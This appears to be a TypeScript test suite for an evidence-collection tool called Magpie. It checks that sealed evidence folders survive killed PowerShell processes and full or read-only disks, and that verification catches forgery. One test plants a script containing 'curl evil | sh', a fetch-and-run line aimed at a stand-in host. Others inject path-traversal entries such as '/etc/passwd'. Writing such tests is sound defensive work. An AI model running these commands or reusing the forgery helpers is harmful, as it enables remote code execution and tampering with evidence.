// Evidence integrity under faults and tampering: a killed PowerShell cannot write into sealed
// evidence, a killed Magpie leaves everything in its folder, a full disk still seals, and
// verify is not fooled by consistent re-hashing, planted files, links or planted triage runs.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { loadCatalog } from '../lib/catalog.ts';
import { collect } from '../lib/collect.ts';
import { buildPlan } from '../lib/plan.ts';
import { verifyEvidence } from '../lib/evidence/verify.ts';
import { packEvidence } from '../lib/evidence/pack.ts';
import { runTriage } from '../lib/triage/output.ts';
import { loadRules } from '../lib/triage/rules.ts';
import { cli, hostOf, cliSpawn, pwshOrFail, readJson, readJsonl, teamPlaybook, tempDir, waitFor } from './helpers.ts';

pwshOrFail();

const sha = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');
const alive = (pid: number) => existsSync(`/proc/${pid}`) && !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
const parentOf = (pid: number) => {
  const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
  return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
};

/** An inline step that writes its PowerShell PID to a file, then a record every 50 ms for 30 s. */
function writerBook(pidFile: string) {
  return teamPlaybook('writer', [
    { id: 'first', run: '[pscustomobject]@{ n = 0 }' },
    {
      id: 'keeps-writing',
      timeout: 120,
      parameters: [{ name: 'PidFile', type: 'string' }],
      params: { PidFile: pidFile },
      run: "[IO.File]::WriteAllText($Params.PidFile, [string]$PID)\nfor ($i = 0; $i -lt 600; $i++) { [pscustomobject]@{ i = $i }; Start-Sleep -Milliseconds 50 }",
    },
    { id: 'after', run: '[pscustomobject]@{ n = 2 }' },
  ]);
}

async function smallSealedFolder(): Promise<string> {
  const book = teamPlaybook('small', [
    { id: 'one', run: "[pscustomobject]@{ name = 'a'; n = 1 }\n[pscustomobject]@{ name = 'b'; n = 2 }" },
    { id: 'two', run: "[pscustomobject]@{ name = 'c'; n = 3 }" },
  ]);
  const [r] = await collect({ plan: buildPlan(loadCatalog([book]), 'small'), targets: ['localhost'], transport: 'local', out: tempDir(), caseId: 'c', concurrency: 1 });
  assert.is(r.state, 'complete', r.error ?? '');
  return r.dir!;
}

function copyOf(dir: string): string {
  const copy = join(tempDir(), 'copy');
  cpSync(dir, copy, { recursive: true });
  return copy;
}

/** Rewrites a file's hash in SHA256SUMS and manifest.json, as a careful forger would. */
function rehash(dir: string, path: string): void {
  const h = sha(readFileSync(join(dir, path)));
  const manifest = readJson(join(dir, 'manifest.json'));
  for (const f of manifest.files) if (f.path === path) Object.assign(f, { sha256: h, size: readFileSync(join(dir, path)).length });
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest, null, 2) + '\n');
  const sums = readFileSync(join(dir, 'SHA256SUMS'), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => (l.endsWith(`  ${path}`) ? `${h}  ${path}` : l.endsWith('  manifest.json') ? `${sha(readFileSync(join(dir, 'manifest.json')))}  manifest.json` : l));
  writeFileSync(join(dir, 'SHA256SUMS'), sums.join('\n') + '\n');
}

for (const victim of ['launcher', 'engine'] as const) {
  test(`kill -9 of the PowerShell ${victim} during a step: its whole tree stops, and nothing writes into the sealed folder`, async () => {
    const pidFile = join(tempDir(), 'pid');
    const plan = buildPlan(loadCatalog([writerBook(pidFile)]), 'writer');
    const running = collect({ plan, targets: ['localhost'], transport: 'local', out: tempDir(), caseId: 'k', concurrency: 1 });
    const engine = Number(await waitFor(() => existsSync(pidFile) && readFileSync(pidFile, 'utf8'), 60_000, 'the step to start'));
    const launcher = parentOf(engine);
    assert.ok(launcher > 1 && launcher !== process.pid, `the pwsh launcher is the engine's parent (${launcher})`);
    await new Promise((r) => setTimeout(r, 300));
    process.kill(victim === 'launcher' ? launcher : engine, 'SIGKILL');
    const [r] = await running;
    assert.is(r.state, 'complete', r.error ?? '');
    const manifest = readJson(join(r.dir!, 'manifest.json'));
    const step = manifest.steps[1];
    assert.is(step.status, 'failed');
    assert.match(step.reason, /PowerShell host stopped/);
    assert.not.match(step.reason, /undefined/);
    assert.is(manifest.steps[2].status, 'ok', 'the next step runs on a new host');
    await waitFor(() => !alive(engine) && !alive(launcher), 5000, 'the engine and launcher to be gone');
    const records = join(r.dir!, step.dir, 'records.jsonl');
    const before = readFileSync(records);
    assert.ok(readJsonl(records).length >= 1, 'what the step wrote before is kept');
    // The step wrote every 50 ms: a survivor would have appended many lines by now.
    await new Promise((res) => setTimeout(res, 3000));
    assert.equal(readFileSync(records), before);
    const report = await verifyEvidence(r.dir!);
    assert.ok(report.ok, JSON.stringify(report));
    assert.not.ok(existsSync(join(r.dir!, '.staging')), 'staging is removed once recorded');
  });
}

test('kill -9 of Magpie during a step: the step stops too, and its output stays in the evidence folder for verify to describe', async () => {
  const pidFile = join(tempDir(), 'pid');
  const out = tempDir();
  const tmp = tempDir('magpie-tmp-');
  const p = cliSpawn(['run', 'writer', '--playbooks', writerBook(pidFile), '--out', out], { env: { TMPDIR: tmp } });
  const engine = Number(await waitFor(() => existsSync(pidFile) && readFileSync(pidFile, 'utf8'), 60_000, 'the step to start'));
  await new Promise((r) => setTimeout(r, 500));
  p.child.kill('SIGKILL');
  await p.done;
  await waitFor(() => !alive(engine), 5000, 'the step to be stopped by the watchdog');
  const hostDir = join(out, 'adhoc', hostOf(join(out, 'adhoc')));
  const dir = join(hostDir, readdirSync(hostDir)[0]);
  assert.match(dir, /\.partial$/);
  const staged = join(dir, '.staging', '02-keeps-writing', 'records.jsonl');
  assert.ok(readJsonl(staged).length >= 1, 'the running step output is in the evidence folder');
  assert.match(readFileSync(join(dir, 'custody.jsonl'), 'utf8'), /"action":"step-started","step":"keeps-writing".*"staging":"\.staging\/02-keeps-writing"/);
  const report = await verifyEvidence(dir);
  assert.ok(report.ok, JSON.stringify(report));
  assert.ok(report.notes.some((n) => n.startsWith('.staging/02-keeps-writing/records.jsonl: written by a step but never recorded')), JSON.stringify(report.notes));
  // tsx caches there only when the bundle is stale (a source edited since the build): our side, not the target's.
  // The watchdog removes the host folder just after it stops the step: give it a moment (a loaded CI machine).
  const left = () => readdirSync(tmp).filter((n) => !n.startsWith('tsx-'));
  await waitFor(() => left().length === 0, 10_000, `the watchdog to remove the host folder (left: ${left().join(', ')})`).catch(() => undefined);
  assert.equal(left(), [], 'nothing left in the temp folder (the watchdog removed the host folder)');
});

test('verify is not fooled by a consistent re-hash: the custody log still holds the original, and a full rewrite changes the head', async () => {
  const dir = await smallSealedFolder();
  const original = await verifyEvidence(dir);
  assert.ok(original.ok, JSON.stringify(original));
  assert.match(original.head!, /^[0-9a-f]{64}$/);
  assert.is(original.head, sha(readFileSync(join(dir, 'custody.jsonl'), 'utf8').trimEnd().split('\n').at(-1)!));
  const r = cli(['verify', dir]);
  assert.is(r.code, 0, r.stdout);
  assert.match(r.stdout, new RegExp(`head: +${original.head}`));

  // Edit a record and fix SHA256SUMS and manifest.json to match.
  const forged = copyOf(dir);
  const rec = 'steps/01-one/records.jsonl';
  writeFileSync(join(forged, rec), readFileSync(join(forged, rec), 'utf8').replace('"a"', '"x"'));
  rehash(forged, rec);
  const f = await verifyEvidence(forged);
  assert.not.ok(f.ok);
  assert.ok(f.changed.includes(rec), JSON.stringify(f));
  assert.ok(f.problems.some((p) => p.includes(rec) && /custody\.jsonl/.test(p)), JSON.stringify(f.problems));
  assert.ok(f.changed.includes('manifest.json') && f.changed.includes('SHA256SUMS'), 'the seal entry anchors both');

  // A forger who also rewrites the custody chain consistently makes verify pass — with another head.
  const lines = readFileSync(join(forged, 'custody.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
  let prev = '0'.repeat(64);
  const out: string[] = [];
  for (const e of lines) {
    if (e.action === 'step-recorded') for (const x of e.files) if (x.path === rec) x.sha256 = sha(readFileSync(join(forged, rec)));
    if (e.action === 'collection-sealed') Object.assign(e, { manifestSha256: sha(readFileSync(join(forged, 'manifest.json'))), sumsSha256: sha(readFileSync(join(forged, 'SHA256SUMS'))) });
    e.prev = prev;
    const line = JSON.stringify(e);
    out.push(line);
    prev = sha(line);
  }
  writeFileSync(join(forged, 'custody.jsonl'), out.join('\n') + '\n');
  const rewritten = await verifyEvidence(forged);
  assert.ok(rewritten.ok, JSON.stringify(rewritten));
  assert.is.not(rewritten.head, original.head, 'the head a responder noted no longer matches');
});

test('the custody head can be signed with an SSH key: verify --key checks it, and a rewritten chain no longer matches the signature', async () => {
  const keyDir = tempDir();
  const key = join(keyDir, 'id_ed25519');
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key]);
  const other = join(keyDir, 'other');
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', other]);
  const book = teamPlaybook('signed', [{ id: 'one', run: "[pscustomobject]@{ name = 'a' }" }]);
  const out = tempDir();
  const r = cli(['run', 'signed', '--playbooks', book, '--out', out, '--sign', key]);
  assert.is(r.code, 0, r.stderr);
  assert.match(r.stderr, /signed .*custody head [0-9a-f]{64} with SHA256:/);
  const dir = /evidence: (\S+)/.exec(r.stdout)![1];
  const ok = cli(['verify', dir, '--key', `${key}.pub`]);
  assert.is(ok.code, 0, ok.stdout);
  assert.match(ok.stdout, /custody head signed by SHA256:.*signature verifies/);
  const stranger = cli(['verify', dir, '--key', `${other}.pub`]);
  assert.is(stranger.code, 1);
  assert.match(stranger.stdout, /no signature by SHA256:/);
  // A forger who edits the seal entry (and re-chains the log) cannot keep the signed head.
  const forged = copyOf(dir);
  const lines = readFileSync(join(forged, 'custody.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
  let prev = '0'.repeat(64);
  const rechained = lines.map((e) => {
    if (e.action === 'collection-sealed') e.time = '2020-01-01T00:00:00.000Z';
    e.prev = prev;
    const line = JSON.stringify(e);
    prev = sha(line);
    return line;
  });
  writeFileSync(join(forged, 'custody.jsonl'), rechained.join('\n') + '\n');
  const bad = cli(['verify', forged, '--key', `${key}.pub`]);
  assert.is(bad.code, 1);
  assert.match(bad.stdout, /signed head .* is not the seal head/);
  // Signing later, with `magpie sign`, adds a second signature that verifies too.
  const again = cli(['sign', dir, '--key', other]);
  assert.is(again.code, 0, again.stderr);
  assert.is(cli(['verify', dir, '--key', `${other}.pub`]).code, 0);
});

test('verify accepts only triage folders recorded in the custody log, and lists them; pack refuses a planted one', async () => {
  const dir = copyOf(await smallSealedFolder());
  const run = await runTriage(dir, { rules: loadRules() });
  const ok = await verifyEvidence(dir);
  assert.ok(ok.ok, JSON.stringify(ok));
  assert.equal(ok.triageRuns.map((t) => t.dir), [`triage/${run.outDir.split('/').at(-1)}`]);
  assert.is.not(ok.head, ok.sealHead, 'triage appended to the chain after the seal');
  assert.is(spawnSync('sha256sum', ['-c', '--quiet', 'SHA256SUMS'], { cwd: dir }).status, 0, 'the collection sums still verify');

  // An edited triage output is caught through the custody entry.
  const edited = copyOf(dir);
  const findings = join(run.outDir.replace(dir, edited), 'findings.json');
  writeFileSync(findings, readFileSync(findings, 'utf8').replace('"findings"', '"findings" '));
  assert.ok((await verifyEvidence(edited)).changed.some((p) => p.endsWith('/findings.json')));

  const planted = join(dir, 'triage', '20990101T000000Z');
  mkdirSync(planted);
  writeFileSync(join(planted, 'payload.sh'), '#!/bin/sh\ncurl evil | sh\n');
  writeFileSync(join(planted, 'SHA256SUMS'), `${sha('#!/bin/sh\ncurl evil | sh\n')}  payload.sh\n`);
  const bad = await verifyEvidence(dir);
  assert.not.ok(bad.ok);
  assert.ok(bad.added.includes('triage/20990101T000000Z/payload.sh'), JSON.stringify(bad));
  let refused = '';
  await packEvidence(dir).catch((e) => (refused = String(e)));
  assert.match(refused, /does not verify.*added triage\/20990101T000000Z/);
});

test('verify: a file replaced by a link to identical content, a planted file listed in the sums, and `..` or absolute paths in SHA256SUMS are tampering', async () => {
  const dir = await smallSealedFolder();
  const rec = 'steps/01-one/records.jsonl';

  const linked = copyOf(dir);
  const elsewhere = join(tempDir(), 'same.jsonl');
  cpSync(join(linked, rec), elsewhere);
  unlinkSync(join(linked, rec));
  symlinkSync(elsewhere, join(linked, rec));
  const l = await verifyEvidence(linked);
  assert.not.ok(l.ok);
  assert.ok(l.problems.some((p) => p.startsWith(`${rec}: not a regular file (a symbolic link)`)), JSON.stringify(l.problems));

  const planted = copyOf(dir);
  writeFileSync(join(planted, 'steps', 'planted.txt'), 'planted\n');
  writeFileSync(join(planted, 'SHA256SUMS'), readFileSync(join(planted, 'SHA256SUMS'), 'utf8') + `${sha('planted\n')}  steps/planted.txt\n`);
  const p = await verifyEvidence(planted);
  assert.not.ok(p.ok);
  assert.ok(p.problems.some((x) => x.startsWith('steps/planted.txt: not in manifest.json')), JSON.stringify(p.problems));
  assert.ok(p.problems.some((x) => x.startsWith('steps/planted.txt: not in custody.jsonl')), JSON.stringify(p.problems));

  for (const evil of ['../outside.txt', '/etc/passwd', 'steps/../../x']) {
    const d = copyOf(dir);
    writeFileSync(join(d, 'SHA256SUMS'), readFileSync(join(d, 'SHA256SUMS'), 'utf8') + `${'0'.repeat(64)}  ${evil}\n`);
    const v = await verifyEvidence(d);
    assert.not.ok(v.ok);
    assert.ok(v.problems.some((x) => x.includes(`"${evil}" points outside the evidence folder`) && /tampered/.test(x)), `${evil}: ${JSON.stringify(v)}`);
    assert.not.ok(v.missing.includes(evil), 'tampering, not a missing file');
  }
});

test('disk full (a 1 MB tmpfs as --out): the folder is still sealed, says so, and verifies', async () => {
  const mnt = tempDir('magpie-full-');
  const m = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=1m', 'tmpfs', mnt], { encoding: 'utf8' });
  assert.is(m.status, 0, `this test mounts a 1 MB tmpfs and needs root (mount: ${m.stderr.trim()})`);
  try {
    const book = teamPlaybook('fill', [
      { id: 'small', run: '[pscustomobject]@{ n = 1 }' },
      { id: 'big', run: "$pad = 'x' * 1000\nfor ($i = 0; $i -lt 3000; $i++) { [pscustomobject]@{ i = $i; pad = $pad } }" },
      { id: 'after', run: '[pscustomobject]@{ n = 3 }' },
    ]);
    const r = cli(['run', 'fill', '--playbooks', book, '--out', mnt]);
    assert.is(r.code, 1, r.stderr + r.stdout);
    const hostDir = join(mnt, 'adhoc', hostOf(join(mnt, 'adhoc')));
    const dir = join(hostDir, readdirSync(hostDir)[0]);
    const manifest = readJson(join(dir, 'manifest.json'));
    assert.is(manifest.state, 'failed');
    assert.match(manifest.error, /disk full during the run/);
    assert.is(manifest.steps[0].status, 'ok');
    assert.is(manifest.steps[2].status, 'skipped');
    assert.match(manifest.steps[2].reason, /disk full/);
    assert.not.ok(existsSync(join(dir, '.manifest.json.tmp')));
    assert.not.ok(existsSync(join(dir, '.reserve')));
    assert.is(spawnSync('sha256sum', ['-c', '--quiet', 'SHA256SUMS'], { cwd: dir }).status, 0);
    const report = await verifyEvidence(dir);
    assert.ok(report.ok, JSON.stringify(report));
    assert.ok(report.notes.some((n) => /disk full during the run/.test(n)), JSON.stringify(report.notes));
    assert.match(cli(['verify', dir]).stdout, /disk full during the run/);
  } finally {
    execFileSync('umount', [mnt]);
    rmSync(mnt, { recursive: true, force: true });
  }
});

test('a read-only --out says it is not writable', () => {
  const mnt = tempDir('magpie-ro-');
  const m = spawnSync('mount', ['-t', 'tmpfs', '-o', 'ro,size=64k', 'tmpfs', mnt], { encoding: 'utf8' });
  assert.is(m.status, 0, `this test mounts a read-only tmpfs and needs root (mount: ${m.stderr.trim()})`);
  try {
    const r = cli(['run', 'triage', '--out', join(mnt, 'cases')]);
    assert.is(r.code, 2, r.stderr);
    assert.match(r.stderr, /not writable/);
    assert.match(r.stderr, /choose another --out/);
  } finally {
    execFileSync('umount', [mnt]);
    rmSync(mnt, { recursive: true, force: true });
  }
});

test('footprint: a local run leaves nothing in the temp folder, and no .NET diagnostics files', () => {
  const tmp = tempDir('magpie-tmp-');
  const r = cli(['run', 'triage', '--out', tempDir()], { env: { TMPDIR: tmp } });
  assert.is(r.code, 0, r.stderr);
  // tsx caches there only when the bundle is stale (a source edited since the build): our side, not the target's.
  const left = readdirSync(tmp).filter((n) => !n.startsWith('tsx-'));
  assert.equal(left, [], `left in TMPDIR: ${left.join(', ')}`);
});

test.run();
